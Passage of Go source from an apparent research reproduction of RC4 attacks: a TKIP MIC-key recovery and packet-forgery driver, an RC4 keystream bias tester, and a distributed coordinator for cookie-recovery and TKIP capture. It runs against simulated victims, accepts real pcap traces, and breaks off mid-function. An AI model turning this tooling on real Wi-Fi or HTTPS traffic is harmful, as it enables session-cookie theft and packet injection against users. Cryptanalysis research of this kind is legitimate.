		Attack:       "tkip",
		Mode:         displayMode,
		Success:      err == nil,
		Rank:         depth,
		Observations: attack.Frames,
		CaptureMS:    float64(collectTime.Microseconds()) / 1000,
		// RecoverTrailer interleaves decoding with the ICV oracle, so the
		// offline path reports their combined time as decode.
		DecodeMS:  float64(recoverTime.Microseconds()) / 1000,
		ElapsedMS: float64((collectTime + recoverTime).Microseconds()) / 1000,
	}
	if err != nil {
		result.Error = err.Error()
		fmt.Printf("      attack failed: %v (try more copies or deeper search)\n", err)
		emitJSON(*jsonOut, result)
		os.Exit(1)
	}
	result.Plaintext = fmt.Sprintf("%x", micKey[:])
	fmt.Printf("      correct-ICV candidate at list position %d (%v)\n", depth, recoverTime.Round(time.Millisecond))
	fmt.Printf("      recovered MIC key: %x\n", micKey)
	if micKey == session.MICKey {
		fmt.Println("      MIC key matches the real key")
	} else {
		fmt.Println("      WARNING: recovered key does not match (ICV collision, as §5.4 observed once)")
	}

	forgeDemo(session, victim.MSDU, micKey, "[4/4]")
	emitJSON(*jsonOut, result)
}

// forgeDemo demonstrates impact: a packet forged under the recovered MIC
// key must be accepted by the network.
func forgeDemo(session *tkip.Session, msdu []byte, micKey [8]byte, phase string) {
	fmt.Printf("%s forging a packet with the recovered MIC key...\n", phase)
	attacker := &tkip.Session{TK: session.TK, MICKey: micKey, TA: session.TA, DA: session.DA, SA: session.SA}
	forged := attacker.Encapsulate(msdu, 0xF00D)
	if _, err := session.Decapsulate(forged); err != nil {
		fmt.Printf("      forgery rejected: %v\n", err)
		os.Exit(1)
	}
	fmt.Println("      forged packet accepted by the network — attack complete")
}

// runOnline drives the §5.3 closed loop: capture frames to the next cadence
// point, compute likelihoods, walk the lazy best-first candidate list
// against the Michael-MIC/ICV trailer oracle (with a network-forgery
// confirmation of the recovered key), and stop at the first confirmed
// trailer. Decode points are absolute frame counts, so a checkpointed run
// killed and resumed continues on exactly the cadence an uninterrupted run
// would use.
func runOnline(attack *tkip.Attack, session *tkip.Session, victim *netsim.WiFiVictim, mode string, seed int64, budget uint64, cad online.Cadence, depth int, checkpoint string, checkpointEvery uint64, jsonOut bool) {
	if budget <= attack.Frames {
		fatal(fmt.Errorf("online: budget %d already reached by resumed capture (%d frames)", budget, attack.Frames))
	}
	oracle := &tkip.TrailerOracle{
		DA: session.DA, SA: session.SA, MSDU: victim.MSDU,
		Confirm: netsim.ForgeryConfirm(session, victim.MSDU),
	}
	streamID := snapshot.StreamInfo{Mode: mode, Seed: seed}
	if mode == "exact" {
		streamID.Seed = 0 // the exact stream is the session's TSC sequence
	}
	if attack.Frames > 0 && attack.Stream != streamID {
		fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, flags request %s/seed %d",
			attack.Stream.Mode, attack.Stream.Seed, mode, streamID.Seed))
	}
	attack.Stream = streamID

	var captureTo func(uint64) error
	switch mode {
	case "model":
		trailer := trueTrailer(session, victim.MSDU)
		captureTo = func(target uint64) error {
			// Chunks after the first derive a fresh noise stream from the
			// continuation point (same rule as a resumed offline top-up);
			// absolute decode points make a resumed online run chunk — and
			// draw — identically to an uninterrupted one.
			rng := rand.New(rand.NewSource(cliutil.ContinuationSeed(seed, attack.Frames)))
			return attack.SimulateCaptures(rng, trailer, target-attack.Frames)
		}
	case "exact":
		if attack.Frames > 0 {
			fmt.Printf("      fast-forwarding victim past %d resumed frames...\n", attack.Frames)
			victim.Skip(attack.Frames)
		}
		sniffer := netsim.NewSniffer(victim.FrameLen())
		captureTo = func(target uint64) error {
			err := cliutil.CheckpointLoop{
				Iterations: target - attack.Frames,
				Path:       checkpoint,
				Every:      checkpointEvery,
				Unit:       "frames",
				Save:       func() error { return attack.WriteSnapshotFile(checkpoint) },
				Progress:   func() uint64 { return attack.Frames },
				Step: func() (bool, error) {
					f := victim.Transmit()
					if !sniffer.Filter(f) {
						return false, nil
					}
					attack.Observe(f)
					return true, nil
				},
			}.Run()
			if errors.Is(err, cliutil.ErrInterrupted) {
				os.Exit(130)
			}
			return err
		}
	default:
		fatal(fmt.Errorf("unknown mode %q", mode))
	}

	fmt.Printf("[2/4] online closed loop: budget %d frames, first decode at %d, %s cadence, %d candidates/round...\n",
		budget, cad.First, cad, depth)
	res, err := online.Run(online.Config{
		Decoder:       attack,
		Oracle:        oracle,
		Cadence:       cad,
		MaxCandidates: depth,
		Budget:        budget,
		CaptureTo:     captureTo,
		Checkpoint: cliutil.OnlineCheckpoint(checkpoint, "frames",
			attack.WriteSnapshotFile, func() uint64 { return attack.Frames }),
		Logf: cliutil.IndentLogf,
	})
	if err != nil {
		fmt.Printf("      online attack failed: %v (budget %d frames; try a deeper walk or a larger budget)\n", err, budget)
		emitJSON(jsonOut, cliutil.OnlineRunResult("tkip", mode, res, err))
		os.Exit(1)
	}
	if checkpoint != "" {
		if err := attack.WriteSnapshotFile(checkpoint); err != nil {
			fatal(err)
		}
	}
	saved := budget - res.Observed
	fmt.Printf("[3/4] online success: correct trailer at rank %d after %d frames — %d under the %d budget (%.1f h of injection saved)\n",
		res.Rank, res.Observed, saved, budget, float64(saved)/netsim.TKIPInjectionPerSecond/3600)
	fmt.Printf("      %d decode rounds, %d oracle checks (+%d cache-skipped, %d ICV passes), wall-clock %v (capture %v, decode %v, oracle %v)\n",
		res.Rounds, res.Checks, res.Skipped, oracle.ICVPasses,
		res.Elapsed.Round(time.Millisecond), res.CaptureTime.Round(time.Millisecond),
		res.DecodeTime.Round(time.Millisecond), res.OracleTime.Round(time.Millisecond))
	fmt.Printf("      recovered MIC key: %x\n", oracle.MICKey)
	if oracle.MICKey == session.MICKey {
		fmt.Println("      MIC key matches the real key")
	}
	forgeDemo(session, victim.MSDU, oracle.MICKey, "[4/4]")
	jres := cliutil.OnlineRunResult("tkip", mode, res, nil)
	jres.Plaintext = fmt.Sprintf("%x", oracle.MICKey[:])
	emitJSON(jsonOut, jres)
}

// loadOrTrainModel implements the train-once workflow: with -model set and
// present on disk the model is reloaded (validated by the snapshot
// envelope's checksum), otherwise it is trained and — when -model is set —
// persisted for every later shard to share. Shards must share one model:
// capture snapshots embed its fingerprint and refuse to resume or merge
// under a different one.
func loadOrTrainModel(path string, positions int, keysPerTSC uint64, workers int) *tkip.PerTSCModel {
	if path != "" {
		model, err := tkip.LoadModelFile(path)
		switch {
		case err == nil:
			if model.Positions < positions {
				fatal(fmt.Errorf("model %s covers %d positions, attack needs %d", path, model.Positions, positions))
			}
			fmt.Printf("[1/4] loaded per-TSC model from %s (%d keys x 256 classes x %d positions)\n",
				path, model.Keys, model.Positions)
			return model
		case !os.IsNotExist(err):
			// Anything but "absent" must not silently retrain: that would
			// overwrite the artifact and orphan every shard captured
			// against it.
			fatal(fmt.Errorf("load model %s: %w", path, err))
		}
	}
	fmt.Printf("[1/4] training per-TSC model: %d keys x 256 classes x %d positions...\n", keysPerTSC, positions)
	start := time.Now()
	model, err := tkip.Train(tkip.TrainConfig{
		Positions:  positions,
		KeysPerTSC: keysPerTSC,
		Workers:    workers,
	})
	if err != nil {
		fatal(err)
	}
	fmt.Printf("      trained in %v\n", time.Since(start).Round(time.Millisecond))
	if path != "" {
		if err := model.SaveFile(path); err != nil {
			fatal(err)
		}
		fmt.Printf("      model -> %s\n", path)
	}
	return model
}

// collectExact captures real frames off the simulated air. The loop
// checkpoints every checkpointEvery frames and flushes on Ctrl-C/SIGTERM;
// on resume the victim's TSC sequence is fast-forwarded past the frames the
// snapshot already holds (each transmission carries a unique TSC, so
// transmissions == captures), making an interrupted-and-resumed capture
// identical to an uninterrupted one.
func collectExact(attack *tkip.Attack, victim *netsim.WiFiVictim, remaining uint64, checkpoint string, checkpointEvery uint64) {
	if attack.Frames > 0 {
		fmt.Printf("      fast-forwarding victim past %d resumed frames...\n", attack.Frames)
		victim.Skip(attack.Frames) // frames are independently keyed by TSC: O(1)
	}

	sniffer := netsim.NewSniffer(victim.FrameLen())
	err := cliutil.CheckpointLoop{
		Iterations: remaining,
		Path:       checkpoint,
		Every:      checkpointEvery,
		Unit:       "frames",
		Save:       func() error { return attack.WriteSnapshotFile(checkpoint) },
		Progress:   func() uint64 { return attack.Frames },
		Step: func() (bool, error) {
			f := victim.Transmit()
			if !sniffer.Filter(f) {
				return false, nil
			}
			attack.Observe(f)
			return true, nil
		},
	}.Run()
	if errors.Is(err, cliutil.ErrInterrupted) {
		os.Exit(130)
	}
	if err != nil {
		fatal(err)
	}
	fmt.Printf("      sniffer captured %d frames, dropped %d\n", sniffer.Captured, sniffer.Dropped)
}

// emitJSON writes the machine-readable result as the final stdout line
// when -json is set.
func emitJSON(enabled bool, r cliutil.RunResult) {
	if err := r.Emit(enabled); err != nil {
		fatal(err)
	}
}

// runFleetWorker joins a cmd/fleetd coordinator and collects leased capture
// lanes until the coordinator declares the run over. The worker's model
// must be the coordinator's (fingerprint-checked at the door). Model-mode
// lanes draw from the lane's derived seed; exact-mode lanes replay the
// victim's TSC stream from the lane's absolute offset (an O(1) skip —
// frames are independently keyed by TSC).
func runFleetWorker(addr, id string, model *tkip.PerTSCModel, positions []int, session *tkip.Session, victim *netsim.WiFiVictim, workers int, pcapPaths []string) {
	fp, err := model.Fingerprint()
	if err != nil {
		fatal(err)
	}
	trailer := trueTrailer(session, victim.MSDU)
	proc := id
	if proc == "" {
		proc = "tkipattack-worker"
	}
	w := &fleet.Worker{
		Addr:        addr,
		ID:          id,
		Attack:      "tkip",
		Fingerprint: fp,
		Logf:        cliutil.IndentLogf,
		// Per-lane collect spans ride each evidence upload; a traced
		// coordinator folds them under its own trace, an untraced one
		// ignores them.
		Tracer: obs.NewJournal(proc, 1024),
		Collect: func(job fleet.JobSpec, lease fleet.Lease) ([]byte, error) {
			a, err := collectTKIPLane(model, positions, session, trailer, job, lease, workers, pcapPaths)
			if err != nil {
				return nil, err
			}
			var buf bytes.Buffer
			if err := a.WriteSnapshot(&buf); err != nil {
				return nil, err
			}
			return buf.Bytes(), nil
		},
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()
	fmt.Printf("[2/2] fleet worker joining %s...\n", addr)
	stats, err := w.Run(ctx)
	fmt.Printf("      worker done: %d lanes (%d frames) uploaded, %d rejected as already covered\n",
		stats.Lanes, stats.Records, stats.Rejected)
	if stats.StopReason != "" {
		fmt.Printf("      coordinator: %s\n", stats.StopReason)
	}
	if err != nil {
		fatal(err)
	}
}

// collectTKIPLane captures one leased lane into a fresh capture accumulator
// stamped with the lane's stream identity.
func collectTKIPLane(model *tkip.PerTSCModel, positions []int, session *tkip.Session, trailer []byte, job fleet.JobSpec, lease fleet.Lease, workers int, pcapPaths []string) (*tkip.Attack, error) {
	switch job.Mode {
	case "model":
		if pcapPaths != nil {
			return nil, errors.New("-pcap serves exact-mode jobs: a trace is one concrete capture stream, not a statistical model")
		}
		return tkip.CollectLane(model, positions, trailer, lease.Stream,
			cliutil.LaneSeed(job.Seed, lease.Lane), lease.Records, workers)
	case "exact":
		a, err := tkip.NewAttack(model, positions)
		if err != nil {
			return nil, err
		}
		a.Workers = workers
		a.Stream = lease.Stream
		if pcapPaths != nil {
			// Serve the lane from the trace shards: the files concatenate
			// into one logical frame stream and the lane's range is carved
			// out strictly — a shard set that cannot cover the lane fails
			// loudly rather than uploading short evidence.
			v := netsim.NewWiFiVictim(session, tkip.DemoPayload)
			_, err := tkip.CollectTraceFiles(a, v.FrameLen(), pcapPaths, lease.Start, lease.Records, true)
			if err != nil {
				return nil, err
			}
			return a, nil
		}
		v := netsim.NewWiFiVictim(session, tkip.DemoPayload)
		v.Skip(lease.Start) // frames are independently keyed by TSC: O(1)
		sniffer := netsim.NewSniffer(v.FrameLen())
		for i := uint64(0); i < lease.Records; i++ {
			if f := v.Transmit(); sniffer.Filter(f) {
				a.Observe(f)
			}
		}
		return a, nil
	default:
		return nil, fmt.Errorf("unknown fleet mode %q", job.Mode)
	}
}

// writeTKIPPcap writes n frames of the demo victim's stream as a
// monitor-mode radiotap capture — the sim → pcap half of the round trip,
// and the way trace shards for offline or fleet ingest are produced. The
// extension picks the container: .pcapng writes pcapng, else classic pcap.
func writeTKIPPcap(path string, n uint64) error {
	session := tkip.DemoSession()
	victim := netsim.NewWiFiVictim(session, tkip.DemoPayload)
	pw, done, err := trace.CreateFile(path, trace.LinkTypeRadiotap)
	if err != nil {
		return err
	}
	fw, err := netsim.NewFrameWriter(pw, trace.LinkTypeRadiotap, session)
	if err != nil {
		done()
		return err
	}
	fmt.Printf("[1/1] writing %d frames of the victim's TKIP stream -> %s\n", n, path)
	if err := victim.WriteTrace(fw, n); err != nil {
		done()
		return err
	}
	if err := done(); err != nil {
		return err
	}
	info, err := os.Stat(path)
	if err != nil {
		return err
	}
	fmt.Printf("      %d frames, %.1f MB\n", n, float64(info.Size())/(1<<20))
	return nil
}

// trueTrailer decrypts one encapsulation with the real key to obtain the
// plaintext MIC‖ICV the model-mode simulation feeds the sampler.
func trueTrailer(s *tkip.Session, msdu []byte) []byte {
	f := s.Encapsulate(msdu, 0)
	key := tkip.MixKey(s.TK, s.TA, 0)
	plain := make([]byte, len(f.Body))
	rc4.MustNew(key[:]).XORKeyStream(plain, f.Body)
	return plain[len(msdu):]
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "tkipattack:", err)
	os.Exit(1)
}
