// Command biastest analyses a dataset produced by biasgen with the §3.1
// hypothesis-test pipeline: chi-squared uniformity per position for
// single-byte datasets, the Fuchs–Kenett M-test per position for digraph
// datasets, Holm correction across all positions, and a report of the
// rejected (i.e. biased) positions with their strongest cells.
package main

import (
	"flag"
	"fmt"
	"os"
	"sort"

	"rc4break/internal/dataset"
	"rc4break/internal/stats"
)

func main() {
	in := flag.String("in", "", "dataset file from biasgen (required)")
	top := flag.Int("top", 5, "strongest cells to print per biased position")
	flag.Parse()
	if *in == "" {
		fmt.Fprintln(os.Stderr, "biastest: -in is required")
		os.Exit(2)
	}
	f, err := os.Open(*in)
	if err != nil {
		fmt.Fprintln(os.Stderr, "biastest:", err)
		os.Exit(1)
	}
	defer f.Close()
	obs, err := dataset.Load(f)
	if err != nil {
		fmt.Fprintln(os.Stderr, "biastest:", err)
		os.Exit(1)
	}

	switch d := obs.(type) {
	case *dataset.SingleByteCounts:
		analyseSingle(d, *top)
	case *dataset.DigraphCounts:
		analyseDigraph(d, *top)
	default:
		fmt.Fprintf(os.Stderr, "biastest: unsupported dataset type %T\n", obs)
		os.Exit(1)
	}
}

func analyseSingle(d *dataset.SingleByteCounts, top int) {
	fmt.Printf("single-byte dataset: %d keys, positions 1..%d\n", d.Keys, d.Positions)
	pvals := make([]float64, d.Positions)
	for pos := 1; pos <= d.Positions; pos++ {
		r, err := stats.ChiSquareUniform(d.Position(pos))
		if err != nil {
			fmt.Fprintln(os.Stderr, "biastest:", err)
			os.Exit(1)
		}
		pvals[pos-1] = r.P
	}
	adj := stats.HolmCorrection(pvals)
	rejected := 0
	for pos := 1; pos <= d.Positions; pos++ {
		if adj[pos-1] >= stats.SignificanceLevel {
			continue
		}
		rejected++
		fmt.Printf("Z%-4d biased (holm p = %.2e); strongest values:", pos, adj[pos-1])
		printTopCells(d.Position(pos), d.Keys, top)
	}
	fmt.Printf("%d of %d positions rejected at p < %.0e (family-wise)\n",
		rejected, d.Positions, stats.SignificanceLevel)
}

func analyseDigraph(d *dataset.DigraphCounts, top int) {
	fmt.Printf("digraph dataset: %d keys, positions 1..%d\n", d.Keys, d.Positions)
	pvals := make([]float64, d.Positions)
	for pos := 1; pos <= d.Positions; pos++ {
		r, err := stats.MTest(d.Table(pos), 256)
		if err != nil {
			fmt.Fprintln(os.Stderr, "biastest:", err)
			os.Exit(1)
		}
		pvals[pos-1] = r.P
	}
	adj := stats.HolmCorrection(pvals)
	rejected := 0
	for pos := 1; pos <= d.Positions; pos++ {
		if adj[pos-1] >= stats.SignificanceLevel {
			continue
		}
		rejected++
		fmt.Printf("(Z%d,Z%d) dependent (holm p = %.2e)\n", pos, pos+1, adj[pos-1])
		printTopPairs(d, pos, top)
	}
	fmt.Printf("%d of %d positions rejected at p < %.0e (family-wise)\n",
		rejected, d.Positions, stats.SignificanceLevel)
}

func printTopCells(counts []uint64, keys uint64, top int) {
	type cell struct {
		v   int
		dev float64
	}
	u := float64(keys) / 256
	cells := make([]cell, 256)
	for v, c := range counts {
		cells[v] = cell{v, (float64(c) - u) / u}
	}
	sort.Slice(cells, func(a, b int) bool {
		return abs(cells[a].dev) > abs(cells[b].dev)
	})
	for i := 0; i < top && i < len(cells); i++ {
		fmt.Printf("  %d(%+.4f)", cells[i].v, cells[i].dev)
	}
	fmt.Println()
}

func printTopPairs(d *dataset.DigraphCounts, pos, top int) {
	// Report cells by proportion-test z against the marginal expectation —
	// the §3.1 step that locates which value pairs carry the dependency.
	first, second := d.Marginals(pos)
	tbl := d.Table(pos)
	type cell struct {
		x, y int
		z    float64
	}
	var cells []cell
	n := float64(d.Keys)
	for x := 0; x < 256; x++ {
		px := float64(first[x]) / n
		for y := 0; y < 256; y++ {
			p0 := px * float64(second[y]) / n
			if p0 <= 0 || p0 >= 1 {
				continue
			}
			r, err := stats.ProportionTest(tbl[x*256+y], d.Keys, p0)
			if err != nil {
				continue
			}
			if abs(r.Statistic) > 4 {
				cells = append(cells, cell{x, y, r.Statistic})
			}
		}
	}
	sort.Slice(cells, func(a, b int) bool { return abs(cells[a].z) > abs(cells[b].z) })
	if len(cells) > top {
		cells = cells[:top]
	}
	for _, c := range cells {
		fmt.Printf("  (%d,%d) z=%+.1f\n", c.x, c.y, c.z)
	}
}

func abs(x float64) float64 {
	if x < 0 {
		return -x
	}
	return x
}
