// Command fleetd is the fleet coordinator: it owns the merged evidence pool
// and the closed decode loop for one attack, leases disjoint capture lanes
// to workers over TCP, merges their uploaded lane snapshots in lane order,
// and stops the whole fleet the moment a candidate is oracle-confirmed.
// Workers are the attack drivers themselves in -fleet-worker mode:
//
//	# coordinator: 9·2^27-record cookie job in 2^24-record lanes
//	fleetd -attack cookie -listen 127.0.0.1:7100 -secret Secur3C00kieVal+ \
//	       -budget 1207959552 -lane-records 16777216 -checkpoint pool.snap
//	# workers, on as many machines as available
//	cookieattack -fleet-worker coordinator:7100 -worker-id m1
//	cookieattack -fleet-worker coordinator:7100 -worker-id m2
//
//	# TKIP: share the trained model, then the same shape
//	fleetd -attack tkip -listen 127.0.0.1:7100 -model tkip.model
//	tkipattack -fleet-worker coordinator:7100 -model tkip.model -worker-id m1
//
// Fault tolerance is lease-based: a worker that dies mid-lane simply lets
// its lease expire (-lease-ttl) and the lane is re-captured — byte-
// identically, lanes being pure functions of the job — by the next worker
// that asks. The coordinator's -checkpoint pool snapshot is the same format
// the offline tooling reads, and -resume restarts a coordinator from one
// (it must sit on a lane boundary, which per-round checkpoints always do).
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"time"

	"rc4break/internal/cliutil"
	"rc4break/internal/cookieattack"
	"rc4break/internal/fleet"
	"rc4break/internal/httpmodel"
	"rc4break/internal/metrics"
	"rc4break/internal/netsim"
	"rc4break/internal/obs"
	"rc4break/internal/online"
	"rc4break/internal/tkip"
)

func main() {
	listen := flag.String("listen", "127.0.0.1:7100", "TCP address to accept workers on")
	httpAddr := flag.String("http", "", "optional HTTP address serving /metrics and /healthz (the attackd handlers)")
	attack := flag.String("attack", "cookie", "attack to coordinate: cookie | tkip")
	mode := flag.String("mode", "model", "collection mode workers must run: model | exact")
	seed := flag.Int64("seed", 1, "job base seed; lane streams derive from it")
	budget := flag.Uint64("budget", 0, "total observation budget (0 = attack default: 9x2^27 records / 9x2^20 frames)")
	laneRecords := flag.Uint64("lane-records", 1<<24, "observations per capture lane")
	leaseTTL := flag.Duration("lease-ttl", fleet.DefaultLeaseTTL, "how long a silent worker holds a lane before it is re-leased")
	firstDecode := flag.Uint64("first-decode", 1<<20, "observations at the first decode attempt")
	decodeEvery := flag.Uint64("decode-every", 0, "observations between decode attempts (0 = geometric cadence from -first-decode)")
	depth := flag.Int("candidates", 0, "candidate walk depth per decode round (0 = attack default: 2^16 cookies / 2^20 trailers)")
	workers := flag.Int("workers", 0, "parallel decode workers (0 = GOMAXPROCS)")
	checkpoint := flag.String("checkpoint", "", "pool snapshot written after every unsuccessful decode round (offline-tooling compatible)")
	resume := flag.String("resume", "", "pool snapshot to resume the coordinator from (must sit on a lane boundary)")
	secret := flag.String("secret", "Secur3C00kieVal+", "cookie attack: the 16-character secure cookie to recover")
	modelPath := flag.String("model", "", "tkip attack: model snapshot (loaded if present, otherwise trained and saved there)")
	trainKeys := flag.Uint64("trainkeys", 1<<12, "tkip attack: training keys per TSC class when the model must be trained")
	linger := flag.Duration("linger", 2*time.Second, "how long to keep answering workers with stop after the run finishes")
	jsonOut := flag.Bool("json", false, "append one machine-readable JSON result line to stdout")
	traceOut := flag.String("trace-out", "", "write a Chrome trace-event JSON of the run (coordinator plus worker spans) to this file")
	flag.Parse()

	// One journal serves both sinks: the -trace-out file written at exit and
	// the live /debug/trace endpoints when -http is set. Workers' journals
	// fold into it via evidence uploads, so either sink shows the whole
	// fleet under one trace ID.
	var journal *obs.Journal
	if *traceOut != "" || *httpAddr != "" {
		journal = obs.NewJournal("fleetd", obs.DefaultCapacity)
	}

	var (
		pool   fleet.Pool
		oracle online.Oracle
		fp     [16]byte
		report func(res online.Result, err error)
	)
	switch *attack {
	case "cookie":
		if *budget == 0 {
			*budget = 9 << 27
		}
		if *depth == 0 {
			*depth = 1 << 16
		}
		a, server := cookieSetup(*secret, *workers, *resume)
		pool, oracle, fp = &fleet.CookiePool{Attack: a}, server, a.Fingerprint()
		report = func(res online.Result, err error) {
			if err == nil {
				fmt.Printf("[fleet] cookie %q confirmed at rank %d after %d records (%d rounds, %d server checks)\n",
					res.Plaintext, res.Rank, res.Observed, res.Rounds, res.Checks)
			}
			writeJSON(*jsonOut, "cookie", *mode, res, err)
		}
	case "tkip":
		if *budget == 0 {
			*budget = 9 << 20
		}
		if *depth == 0 {
			*depth = 1 << 20
		}
		a, trailerOracle, modelFP := tkipSetup(*modelPath, *trainKeys, *workers, *resume)
		pool, oracle, fp = &fleet.TKIPPool{Attack: a.Attack, Model: a.Model}, trailerOracle, modelFP
		report = func(res online.Result, err error) {
			if err == nil {
				fmt.Printf("[fleet] trailer confirmed at rank %d after %d frames; MIC key %x\n",
					res.Rank, res.Observed, trailerOracle.MICKey)
			}
			writeJSON(*jsonOut, "tkip", *mode, res, err)
		}
	default:
		fatal(fmt.Errorf("unknown attack %q", *attack))
	}

	job := fleet.JobSpec{
		Attack:      *attack,
		Mode:        *mode,
		Seed:        *seed,
		Budget:      *budget,
		LaneRecords: *laneRecords,
		Fingerprint: fp,
	}
	// Latency histograms behind -http: lease-grant-to-upload round trips,
	// evidence ingest (validate+stage+merge), and closed-loop decode rounds.
	// The coordinator feeds them through duration hooks on its injected
	// clock, so they cost nothing when unset.
	var (
		reg           *metrics.Registry
		histRoundtrip *metrics.Histogram
		histIngest    *metrics.Histogram
		histDecode    *metrics.Histogram
	)
	if *httpAddr != "" {
		reg = metrics.NewRegistry()
		laneBuckets := metrics.ExponentialBuckets(0.25, 2, 14)   // 250ms .. ~34min lanes
		fastBuckets := metrics.ExponentialBuckets(0.0005, 2, 16) // 500µs .. ~16s
		histRoundtrip = reg.Histogram("fleetd_lane_roundtrip_seconds", "lease grant to accepted evidence upload, per lane", laneBuckets)
		histIngest = reg.Histogram("fleetd_ingest_seconds", "evidence upload validation and staging time", fastBuckets)
		histDecode = reg.Histogram("fleetd_decode_round_seconds", "closed-loop decode round time over the merged pool", fastBuckets)
	}
	cfg := fleet.Config{
		Job:           job,
		Pool:          pool,
		Oracle:        oracle,
		Cadence:       online.Cadence{First: *firstDecode, Every: *decodeEvery},
		MaxCandidates: *depth,
		LeaseTTL:      *leaseTTL,
		Checkpoint:    *checkpoint,
		Tracer:        journal,
		Logf:          func(format string, args ...interface{}) { fmt.Printf("[fleet] "+format+"\n", args...) },
	}
	if reg != nil {
		cfg.ObserveLaneRoundtrip = histRoundtrip.ObserveDuration
		cfg.ObserveIngest = histIngest.ObserveDuration
		cfg.ObserveDecode = histDecode.ObserveDuration
	}
	coord, err := fleet.NewCoordinator(cfg)
	if err != nil {
		fatal(err)
	}

	l, err := net.Listen("tcp", *listen)
	if err != nil {
		fatal(err)
	}
	coord.Serve(l)
	fmt.Printf("[fleet] coordinating %s/%s on %s: budget %d in %d lanes of %d, lease TTL %v\n",
		*attack, *mode, l.Addr(), job.Budget, job.Lanes(), job.LaneRecords, *leaseTTL)

	// Optional observability endpoints, the same reusable handlers attackd
	// mounts: Prometheus text metrics (lane counters, latency histograms,
	// runtime gauges), a liveness probe, the live span journal as NDJSON and
	// Chrome trace-event JSON, and net/http/pprof.
	if *httpAddr != "" {
		reg.GaugeFunc("fleetd_lane_uploads_accepted", "lane snapshot uploads merged into the pool",
			func() float64 { uploads, _, _ := coord.Stats(); return float64(uploads) })
		reg.GaugeFunc("fleetd_lane_uploads_rejected", "lane snapshot uploads rejected",
			func() float64 { _, rejected, _ := coord.Stats(); return float64(rejected) })
		reg.GaugeFunc("fleetd_lanes_done", "capture lanes fully merged",
			func() float64 { _, _, lanesDone := coord.Stats(); return float64(lanesDone) })
		metrics.RuntimeGauges(reg)
		mux := http.NewServeMux()
		mux.Handle("GET /metrics", reg.Handler())
		mux.Handle("GET /healthz", metrics.Healthz(func() error { return nil }))
		obs.MountDebug(mux, journal)
		hl, err := net.Listen("tcp", *httpAddr)
		if err != nil {
			fatal(err)
		}
		httpErr := make(chan error, 1)
		go func() { httpErr <- http.Serve(hl, mux) }()
		fmt.Printf("[fleet] metrics on http://%s/metrics, spans on /debug/trace\n", hl.Addr())
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()
	res, runErr := coord.Run(ctx)

	if *checkpoint != "" {
		if err := pool.WriteSnapshotFile(*checkpoint); err != nil {
			fatal(err)
		}
		fmt.Printf("[fleet] pool snapshot -> %s\n", *checkpoint)
	}
	uploads, rejected, lanesDone := coord.Stats()
	fmt.Printf("[fleet] %d lane uploads accepted, %d rejected, %d/%d lanes done\n",
		uploads, rejected, lanesDone, job.Lanes())
	if runErr != nil && !errors.Is(runErr, online.ErrBudgetExhausted) {
		report(res, runErr)
		fatal(runErr)
	}
	if errors.Is(runErr, online.ErrBudgetExhausted) {
		fmt.Printf("[fleet] budget exhausted after %d observations without a confirmed candidate\n", res.Observed)
	}
	report(res, runErr)

	// Keep answering straggler workers with stop before closing, so they
	// exit cleanly instead of on a connection error. Close also ends the
	// run-level span, so the trace file is written after it.
	time.Sleep(*linger)
	coord.Close()
	if *traceOut != "" {
		if err := writeChromeTrace(*traceOut, journal); err != nil {
			fatal(err)
		}
		fmt.Printf("[fleet] chrome trace -> %s\n", *traceOut)
	}
	if runErr != nil {
		os.Exit(1)
	}
}

// writeChromeTrace dumps the journal as a Perfetto-loadable Chrome
// trace-event file: the coordinator's spans plus every folded worker span,
// one process group per proc label.
func writeChromeTrace(path string, j *obs.Journal) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := obs.WriteChrome(f, j.Snapshot()); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// cookieSetup builds the §6 evidence pool and oracle exactly as
// cmd/cookieattack does, so worker-side fingerprints match.
func cookieSetup(secret string, workers int, resume string) (*cookieattack.Attack, *netsim.CookieServer) {
	if len(secret) != 16 {
		fatal(fmt.Errorf("secret must be 16 characters, got %d", len(secret)))
	}
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", secret, 64)
	if err != nil {
		fatal(err)
	}
	attack, err := cookieattack.New(cookieattack.Config{
		CookieLen:   16,
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	})
	if err != nil {
		fatal(err)
	}
	attack.Workers = workers
	if resume != "" {
		resumed, err := cookieattack.ReadSnapshotFile(resume)
		if err != nil {
			fatal(fmt.Errorf("resume %s: %w", resume, err))
		}
		if resumed.Fingerprint() != attack.Fingerprint() {
			fatal(fmt.Errorf("resume %s: snapshot was captured against a different request layout", resume))
		}
		resumed.Workers = workers
		attack = resumed
		fmt.Printf("[fleet] resumed pool %s: %d records\n", resume, attack.Records)
	}
	return attack, &netsim.CookieServer{Secret: []byte(secret)}
}

// tkipSetup loads (or trains) the per-TSC model and prepares the capture
// pool and trailer oracle with the same fixed session cmd/tkipattack uses.
func tkipSetup(modelPath string, trainKeys uint64, workers int, resume string) (*fleet.TKIPPool, *tkip.TrailerOracle, [16]byte) {
	session := tkip.DemoSession()
	victim := netsim.NewWiFiVictim(session, tkip.DemoPayload)
	positions := tkip.TrailerPositions(len(victim.MSDU))

	var model *tkip.PerTSCModel
	if modelPath != "" {
		m, err := tkip.LoadModelFile(modelPath)
		switch {
		case err == nil:
			model = m
			fmt.Printf("[fleet] loaded model %s (%d keys x 256 classes x %d positions)\n", modelPath, m.Keys, m.Positions)
		case !os.IsNotExist(err):
			fatal(fmt.Errorf("load model %s: %w", modelPath, err))
		}
	}
	if model == nil {
		fmt.Printf("[fleet] training per-TSC model: %d keys x 256 classes x %d positions...\n",
			trainKeys, positions[len(positions)-1])
		m, err := tkip.Train(tkip.TrainConfig{
			Positions:  positions[len(positions)-1],
			KeysPerTSC: trainKeys,
			Workers:    workers,
		})
		if err != nil {
			fatal(err)
		}
		model = m
		if modelPath != "" {
			if err := model.SaveFile(modelPath); err != nil {
				fatal(err)
			}
		}
	}
	if model.Positions < positions[len(positions)-1] {
		fatal(fmt.Errorf("model covers %d positions, attack needs %d", model.Positions, positions[len(positions)-1]))
	}

	attack, err := tkip.NewAttack(model, positions)
